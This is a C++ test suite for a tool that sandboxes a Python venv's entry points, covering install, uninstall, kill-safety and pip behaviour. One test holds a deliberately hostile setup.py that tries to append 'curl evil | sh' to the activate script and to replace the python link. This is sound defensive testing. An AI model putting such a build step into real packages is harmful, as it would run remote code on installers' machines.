// Wrapping a venv made by /usr/bin/python3 -m venv, offline: install, argv[0] dispatch,
// pip that re-wraps, shell, uninstall, crash safety.
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <map>
#include <sstream>
#include <thread>

#include "support.h"

namespace vx::test {
namespace {

std::string read_file_link(const std::string& path) {
  char buf[4096];
  ssize_t n = readlink(path.c_str(), buf, sizeof buf);
  return n > 0 ? std::string(buf, static_cast<size_t>(n)) : "";
}

// A listing of VENV/bin and VENV/venv-exec: type, mode, link text or content, per path.
std::string tree(const std::string& dir) {
  RunResult r = run({"/usr/bin/find", dir, "-path", dir + "/home", "-prune", "-o", "-path",
                     dir + "/cache", "-prune", "-o", "-printf", "%P %y %m %l\\n"},
                    {"PATH=/usr/bin:/bin"}, "/");
  RunResult sums = run({"/bin/sh", "-c",
                        "cd '" + dir +
                            "' && find . -type f ! -path './home/*' "
                            "! -path './cache/*' -exec sha256sum {} + | sort"},
                       {"PATH=/usr/bin:/bin"}, "/");
  std::vector<std::string> lines;
  std::istringstream in(r.out);
  std::string line;
  while (std::getline(in, line)) lines.push_back(line);
  std::sort(lines.begin(), lines.end());
  std::string out;
  for (const auto& l : lines) out += l + "\n";
  return out + sums.out;
}

void write_package(const std::string& dir, const std::string& name, const std::string& setup_py,
                   const std::string& module) {
  ASSERT_EQ(mkdir(dir.c_str(), 0755), 0);
  ASSERT_EQ(mkdir((dir + "/" + name).c_str(), 0755), 0);
  write_file(dir + "/setup.py", setup_py);
  write_file(dir + "/" + name + "/__init__.py", module);
}

RunResult pip_install(const TempProject& p, const std::string& path) {
  return run({p.venv + "/bin/pip", "install", "-q", "--no-index", "--no-build-isolation", path},
             base_env(p), p.project);
}

class Install : public ::testing::Test {
 protected:
  static void SetUpTestSuite() { shared_ = new TempProject(make_project(true, "proj", true)); }
  static void TearDownTestSuite() { delete shared_; }
  static TempProject* shared_;  // a venv with pip, made once: it takes seconds
};
TempProject* Install::shared_ = nullptr;

TEST(InstallBasics, NotAVenvIsRefusedWithTheRemedy) {
  TempProject p = make_project(false);
  RunResult r = run_launcher(p, {"install", p.project});
  EXPECT_EQ(r.status, 125);
  EXPECT_NE(r.err.find("it is not a venv (no pyvenv.cfg)"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("hint: create one with 'python3 -m venv "), std::string::npos) << r.err;
}

TEST(InstallBasics, WrapsEveryEntrypointTwiceTheSameAndUninstallRestoresTheTree) {
  TempProject p = make_project(true);
  std::string before = tree(p.venv);
  RunResult first = run_launcher(p, {"install"});
  ASSERT_EQ(first.status, 0) << first.err;
  for (const char* name : {"python", "python3", "shell"}) {
    char buf[4096];
    ssize_t n = readlink((p.venv + "/bin/" + name).c_str(), buf, sizeof buf);
    ASSERT_GT(n, 0) << name;
    EXPECT_EQ(std::string(buf, static_cast<size_t>(n)), launcher_path()) << name;
  }
  EXPECT_TRUE(exists(p.venv + "/venv-exec/real/python3"));
  std::string wrapped = tree(p.venv);
  ASSERT_EQ(run_launcher(p, {"install", ".venv"}).status, 0);
  EXPECT_EQ(tree(p.venv), wrapped);
  RunResult undo = run_launcher(p, {"uninstall"});
  ASSERT_EQ(undo.status, 0) << undo.err;
  EXPECT_EQ(tree(p.venv), before);
  EXPECT_FALSE(exists(p.venv + "/venv-exec"));
}

TEST(InstallBasics, EntrypointsRunSandboxedWithTheVenvAsPrefix) {
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  RunResult py = run({p.venv + "/bin/python", "-c",
                      "import sys, os; print(sys.prefix); print(sorted(int(d) for d in "
                      "os.listdir('/proc') if d.isdigit()))\n"
                      "try: open('" +
                          p.secret_path + "')\nexcept OSError as e: print(e.errno)"},
                     base_env(p), p.project);
  EXPECT_EQ(py.out, p.venv + "\n[1, 2]\n2\n") << py.err;
  RunResult sh =
      run({p.venv + "/bin/shell", "-c", "id -u; cat " + p.secret_path + " || echo denied"},
          base_env(p), p.project);
  EXPECT_EQ(sh.out, std::to_string(getuid()) + "\ndenied\n") << sh.err;
}

TEST(InstallBasics, StoredOptionsApplyAndTheVariableOverridesThemForOneCall) {
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install", ".venv", "--ro-bind", "/etc/os-release", "/file"}).status,
            0);
  std::string code = "print(open('/file').read().splitlines()[0])";
  RunResult stored = run({p.venv + "/bin/python", "-c", code}, base_env(p), p.project);
  EXPECT_EQ(stored.out,
            read_file("/etc/os-release").substr(0, read_file("/etc/os-release").find('\n') + 1));
  std::vector<std::string> env = base_env(p);
  env.push_back("BWRAP_ARGS=--ro-bind /etc/passwd /file");
  RunResult overridden = run({p.venv + "/bin/python", "-c", code}, env, p.project);
  EXPECT_EQ(overridden.out,
            read_file("/etc/passwd").substr(0, read_file("/etc/passwd").find('\n') + 1));
}

TEST(InstallBasics, NoEnvironmentVariableSkipsTheSandboxOnTheHost) {
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  std::vector<std::string> env = base_env(p);
  for (const char* v : {"VENV_EXEC_NESTED=1", "VENV_EXEC_INSIDE=1", "container=venv-exec",
                        "VENV_EXEC_ARGS=", "SANDBOX=1"})
    env.push_back(v);
  RunResult r =
      run({p.venv + "/bin/python", "-c",
           "import os; print(sorted(int(d) for d in os.listdir('/proc') if d.isdigit()))"},
          env, p.project);
  EXPECT_EQ(r.out, "[1, 2]\n") << r.err;
}

// An install killed after it preserved bin/python in real/ but before it put the wrapper in
// place leaves the original link in bin/. The next install wraps it like any other: the entry is
// the one real/ holds, no impostor to quarantine (moving it aside is what once left bin/python
// missing for an instant, the rare exit 122 of the test below).
TEST(InstallBasics, AnEntryPreservedByAKilledInstallIsWrappedNotQuarantined) {
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  std::string original = read_file_link(p.venv + "/venv-exec/real/python");
  ASSERT_EQ(unlink((p.venv + "/bin/python").c_str()), 0);
  ASSERT_EQ(symlink(original.c_str(), (p.venv + "/bin/python").c_str()), 0);
  RunResult again = run_launcher(p, {"install"});
  ASSERT_EQ(again.status, 0) << again.err;
  EXPECT_FALSE(exists(p.venv + "/venv-exec/quarantine")) << again.out;
  EXPECT_EQ(bin_violations(p.venv), "");
  EXPECT_EQ(run({p.venv + "/bin/python", "-c", "print(1)"}, base_env(p), p.project).out, "1\n");
}

TEST(InstallBasics, KilledAtAnyPointEveryEntrypointStillRuns) {
  TempProject p = make_project(true);
  for (int i = 0; i < 200; ++i)
    write_file(p.venv + "/bin/tool" + std::to_string(i),
               "#!/bin/sh\necho tool" + std::to_string(i) + "\n", 0755);
  // Kill points spread over one uninterrupted install, timed first (a sanitizer build or a
  // loaded machine is slower), until some kills are seen to land mid-way (some entries wrapped,
  // some not): the positive control that the invariant was tested where it matters.
  auto started = std::chrono::steady_clock::now();
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  auto full_us = std::chrono::duration_cast<std::chrono::microseconds>(
                     std::chrono::steady_clock::now() - started)
                     .count();
  ASSERT_EQ(run_launcher(p, {"uninstall"}).status, 0);
  int partial = 0;
  for (int round = 0; round < 80 && partial < 3; ++round) {
    int delay_us = static_cast<int>((round % 40) * full_us / 40);
    if (round == 40) {
      ASSERT_EQ(run_launcher(p, {"uninstall"}).status, 0);
    }
    Background bg = start_launcher(p, {"install"});
    std::this_thread::sleep_for(std::chrono::microseconds(delay_us));
    kill(bg.pid, SIGKILL);
    wait_status(bg.pid);
    close(bg.out_fd);
    int wrapped = 0;
    for (int i = 0; i < 200; ++i) {
      std::string entry = p.venv + "/bin/tool" + std::to_string(i);
      ASSERT_TRUE(exists(entry)) << "missing after a kill at " << delay_us << " us: " << entry;
      char buf[8];
      if (readlink(entry.c_str(), buf, sizeof buf) > 0) ++wrapped;
    }
    if (wrapped > 0 && wrapped < 200) ++partial;
    RunResult spot = run({p.venv + "/bin/tool199"}, base_env(p), p.project);
    ASSERT_EQ(spot.out, "tool199\n") << "after a kill at " << delay_us << " us: " << spot.err;
    // The interpreter links, relative ones (python -> python3) included, run at every instant.
    for (const char* py : {"python", "python3", "python3.11"}) {
      RunResult r = run({p.venv + "/bin/" + py, "-c", "print(1)"}, base_env(p), p.project);
      if (r.out != "1\n") {
        // Exit 122 is run()'s own: execve of bin/NAME failed. It was seen when a kill landed
        // inside quarantine()'s rename-then-link window (fixed); say what bin/ and real/ held,
        // and what a second, verbose run does.
        RunResult ls =
            run({"/bin/sh", "-c", "ls -l bin venv-exec/real | grep -v tool"}, base_env(p), p.venv);
        std::vector<std::string> env = base_env(p);
        env.push_back("VERBOSE=1");
        RunResult again = run({p.venv + "/bin/" + py, "-c", "print(1)"}, env, p.project);
        ADD_FAILURE() << "bin/ and real/:\n"
                      << ls.out << "a second run: " << again.status << " " << again.out
                      << again.err;
      }
      ASSERT_EQ(r.out, "1\n") << py << " after a kill at " << delay_us << " us: status " << r.status
                              << ": " << r.err;
    }
  }
  EXPECT_GE(partial, 1) << "no kill landed in the middle of install";
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  for (int i = 0; i < 200; i += 37) {
    RunResult r = run({p.venv + "/bin/tool" + std::to_string(i)}, base_env(p), p.project);
    EXPECT_EQ(r.out, "tool" + std::to_string(i) + "\n") << r.err;
  }
  EXPECT_EQ(run({p.venv + "/bin/python", "-c", "print(1)"}, base_env(p), p.project).out, "1\n");
}

TEST_F(Install, PipInstallsALocalPackageWhoseScriptIsWrappedAndSandboxed) {
  TempProject& p = *shared_;
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  RunResult version = run({p.venv + "/bin/pip", "--version"}, base_env(p), p.project);
  EXPECT_EQ(version.out.rfind("pip ", 0), 0u) << version.err;
  write_package(
      p.project + "/pkg", "hello",
      "from setuptools import setup\nsetup(name='hello', version='1.0', packages=['hello'],"
      " entry_points={'console_scripts': ['hello=hello:main']})\n",
      "def main():\n    import os\n    print('hello', os.getpid())\n"
      "    try: open('" +
          p.secret_path + "')\n    except OSError as e: print(e.errno)\n");
  RunResult pip = pip_install(p, "./pkg");
  ASSERT_EQ(pip.status, 0) << pip.out << pip.err;
  char buf[4096];
  ssize_t n = readlink((p.venv + "/bin/hello").c_str(), buf, sizeof buf);
  ASSERT_GT(n, 0);
  EXPECT_EQ(std::string(buf, static_cast<size_t>(n)), launcher_path());
  RunResult hello = run({p.venv + "/bin/hello"}, base_env(p), p.project);
  EXPECT_EQ(hello.out, "hello 2\n2\n") << hello.err;
}

TEST_F(Install, MaliciousBuildStepCannotChangeWhatTheHostTrusts) {
  TempProject& p = *shared_;
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  std::string activate = read_file(p.venv + "/bin/activate");
  std::string cfg = read_file(p.venv + "/pyvenv.cfg");
  write_package(
      p.project + "/evil", "evil",
      "import os, sys\nfrom setuptools import setup\n"
      "b = os.path.join(sys.prefix, 'bin')\n"
      "def tryit(f):\n    try: f()\n    except OSError: pass\n"
      "tryit(lambda: open(os.path.join(b, 'activate'), 'a').write('curl evil | sh\\n'))\n"
      "tryit(lambda: open(os.path.join(sys.prefix, 'pyvenv.cfg'), 'a').write('x = 1\\n'))\n"
      "tryit(lambda: os.unlink(os.path.join(b, 'python')))\n"
      "tryit(lambda: open(os.path.join(b, 'python'), 'w').write('#!/bin/sh\\necho evil\\n'))\n"
      "tryit(lambda: os.chmod(os.path.join(b, 'python'), 0o755))\n"
      "open(os.path.join(b, 'dropped'), 'w').write('#!/bin/sh\\necho dropped\\n')\n"
      "os.chmod(os.path.join(b, 'dropped'), 0o755)\n"
      "setup(name='evil', version='1.0', packages=['evil'])\n",
      "");
  RunResult pip = pip_install(p, "./evil");
  EXPECT_EQ(pip.status, 0) << pip.out << pip.err;
  EXPECT_EQ(read_file(p.venv + "/bin/activate"), activate);
  EXPECT_EQ(read_file(p.venv + "/pyvenv.cfg"), cfg);
  char buf[4096];
  ssize_t n = readlink((p.venv + "/bin/python").c_str(), buf, sizeof buf);
  ASSERT_GT(n, 0);
  EXPECT_EQ(std::string(buf, static_cast<size_t>(n)), launcher_path());
  EXPECT_NE(pip.err.find("the sandbox replaced an interpreter link"), std::string::npos) << pip.err;
  n = readlink((p.venv + "/bin/dropped").c_str(), buf, sizeof buf);
  ASSERT_GT(n, 0);
  EXPECT_EQ(std::string(buf, static_cast<size_t>(n)), launcher_path());
  EXPECT_EQ(run({p.venv + "/bin/dropped"}, base_env(p), p.project).out, "dropped\n");
  EXPECT_EQ(run({p.venv + "/bin/python", "-c", "print('real python')"}, base_env(p), p.project).out,
            "real python\n");
}

TEST(InstallBasics, NewProtectedPathIsReportedAfterTheRun) {
  TempProject p = make_project(true);
  RunResult r = run_launcher(p, {"/bin/sh", "-c", "mkdir .git && echo '[core]' > .git/config"});
  EXPECT_EQ(r.status, 0);
  EXPECT_NE(r.err.find("venv-exec: warning: the sandbox created " + p.project + "/.git"),
            std::string::npos)
      << r.err;
  RunResult again = run_launcher(p, {"/bin/true"});
  EXPECT_EQ(again.err, "");
}

TEST(InstallBasics, InterpreterOutsideUsrWorks) {
  // A base interpreter under a prefix outside /usr (as pyenv, uv or /opt installs are): a copy
  // of the system python in a temp prefix whose lib/ points at the system stdlib.
  TempProject p = make_project(false);
  std::string prefix = p.root + "/opt-python";
  ASSERT_EQ(mkdir(prefix.c_str(), 0755), 0);
  ASSERT_EQ(mkdir((prefix + "/bin").c_str(), 0755), 0);
  ASSERT_EQ(run({"/bin/cp", "/usr/bin/python3.11", prefix + "/bin/python3.11"},
                {"PATH=/usr/bin:/bin"}, "/")
                .status,
            0);
  ASSERT_EQ(symlink("python3.11", (prefix + "/bin/python3").c_str()), 0);
  ASSERT_EQ(symlink("/usr/lib", (prefix + "/lib").c_str()), 0);
  RunResult mk = run({prefix + "/bin/python3", "-m", "venv", "--without-pip", p.project + "/.venv"},
                     base_env(p), p.project);
  ASSERT_EQ(mk.status, 0) << mk.err;
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  RunResult r = run({p.project + "/.venv/bin/python", "-c",
                     "import sys, ssl, json; print(sys.prefix); print(sys.base_prefix)"},
                    base_env(p), p.project);
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, p.project + "/.venv\n" + prefix + "\n");
}

TEST(InstallBasics, SecondInstallKeepsDefaultsAndABinaryInsideTheVenvIsRefused) {
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install", ".venv", "--unshare-net"}).status, 0);
  ASSERT_EQ(run_launcher(p, {"install", ".venv"}).status, 0);
  // Stored in the host-side state (SPEC §3a.1), nowhere a sandbox can write.
  EXPECT_FALSE(exists(p.venv + "/venv-exec/options"));
  RunResult opts =
      run({"/bin/sh", "-c", "cat " + p.home + "/.local/state/venv-exec/venvs/*/options"},
          base_env(p), p.project);
  EXPECT_NE(opts.out.find("--unshare-net"), std::string::npos) << opts.err;
  RunResult net = run({p.venv + "/bin/python", "-c", "import socket; print(socket.if_nameindex())"},
                      base_env(p), p.project);
  EXPECT_EQ(net.out, "[(1, 'lo')]\n") << net.err;
  std::string inside = p.venv + "/venv-exec-copy";
  write_file(inside, read_file(launcher_path()), 0755);
  RunResult r = run({inside, "install", ".venv"}, base_env(p), p.project);
  EXPECT_EQ(r.status, 125);
  EXPECT_NE(r.err.find("venv-exec itself lies inside the venv"), std::string::npos) << r.err;
}

TEST(InstallBasics, VenvWrappedByAnEarlierBuildRunsWithDefaultsUntilInstalledAgain) {
  // An earlier venv-exec kept its options in the venv and had no registry (SPEC §3a).
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install", ".venv"}).status, 0);
  RunResult rm = run({"/bin/rm", "-rf", p.home + "/.local/state/venv-exec"}, base_env(p), p.root);
  ASSERT_EQ(rm.status, 0);
  write_file(p.venv + "/venv-exec/options", "--unshare-net\n");
  std::string code = "import socket; print(len(socket.if_nameindex()) == 1)";
  RunResult before = run({p.venv + "/bin/python", "-c", code}, base_env(p), p.project);
  EXPECT_EQ(before.status, 0) << before.err;
  EXPECT_EQ(before.out, "False\n") << "stored options are not trusted before install";
  EXPECT_NE(before.err.find("is wrapped but not registered"), std::string::npos) << before.err;
  RunResult again = run_launcher(p, {"install", ".venv"});
  EXPECT_EQ(again.status, 0) << again.err;
  EXPECT_NE(again.err.find("adopting the options an earlier venv-exec stored in the venv: "
                           "--unshare-net"),
            std::string::npos)
      << again.err;
  RunResult after = run({p.venv + "/bin/python", "-c", code}, base_env(p), p.project);
  EXPECT_EQ(after.status, 0) << after.err;
  EXPECT_EQ(after.out, "True\n");
  EXPECT_EQ(after.err, "");
}

TEST(InstallBasics, UninstallUnregisters) {
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install", ".venv", "--unshare-net"}).status, 0);
  ASSERT_EQ(run_launcher(p, {"uninstall", ".venv"}).status, 0);
  EXPECT_EQ(read_file(p.home + "/.local/state/venv-exec/registry"), "");
  RunResult r = run_launcher(
      p, {"/usr/bin/python3", "-c", "import socket; print(len(socket.if_nameindex()) == 1)"});
  EXPECT_EQ(r.out, "False\n") << r.err;
}

TEST(InstallBasics, RegisteredVenvIsFoundFromASubdirectory) {
  TempProject p = make_project(true);
  ASSERT_EQ(run_launcher(p, {"install", ".venv", "--setenv", "FOUND", "yes"}).status, 0);
  std::string sub = p.project + "/src/pkg";
  ASSERT_EQ(run({"/bin/mkdir", "-p", sub}, base_env(p), p.root).status, 0);
  RunResult r =
      run({launcher_path(), "/bin/sh", "-c", "echo $FOUND $VIRTUAL_ENV"}, base_env(p), sub);
  EXPECT_EQ(r.out, "yes " + p.venv + "\n") << r.err;
}

}  // namespace
}  // namespace vx::test
